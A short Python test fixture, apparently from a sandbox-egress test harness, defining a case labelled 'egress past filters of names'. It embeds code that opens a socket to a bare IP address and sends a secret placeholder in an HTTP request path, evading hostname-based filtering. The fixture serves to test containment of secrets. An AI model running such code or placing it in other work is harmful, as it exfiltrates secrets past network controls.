"""sends a secret to an address, without any name"""

from evidence import secret_left as succeeded

SHAPE = "egress past filters of names"
PROMISE = "P23"
LAB = True
WALLS = "network-namespace"
PYTHON = """
import socket
with socket.create_connection(("93.184.216.10", 80), 30) as line:
    line.sendall(b"GET /@SECRET@ HTTP/1.1\\r\\nHost: www.rwlab.net\\r\\n\\r\\n")
    line.recv(999)
"""
